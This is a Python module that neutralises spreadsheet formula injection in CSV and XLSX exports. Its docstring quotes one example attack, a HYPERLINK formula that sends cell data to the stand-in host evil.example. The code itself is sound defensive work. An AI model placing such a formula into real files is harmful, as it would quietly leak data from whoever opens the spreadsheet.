"""Cells for CSV and XLSX files that people open in a spreadsheet program.

A text cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which some
programs skip before reading a formula) is run as a formula when the file is opened: a participant
who types ``=HYPERLINK("https://evil.example/?"&A1, "click")`` as their organisation could make an
organiser's computer send data elsewhere. ``safe_cell`` turns such text into plain text by putting a
single quote in front of it (OWASP's advice); every export goes through it.
"""

from __future__ import annotations

from typing import Any

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """The value as a spreadsheet should store it: text that could start a formula gets a leading quote.

    Numbers, dates, booleans and ``None`` are returned unchanged (they are never read as formulas);
    any other object is turned into text first.
    """
    if value is None or isinstance(value, bool | int | float):
        return value
    if hasattr(value, "isoformat"):  # date, datetime, time
        return value
    text = str(value)
    if text.startswith(FORMULA_TRIGGERS):
        return "'" + text
    return text


def safe_row(values: list[Any] | tuple[Any, ...]) -> list[Any]:
    return [safe_cell(value) for value in values]
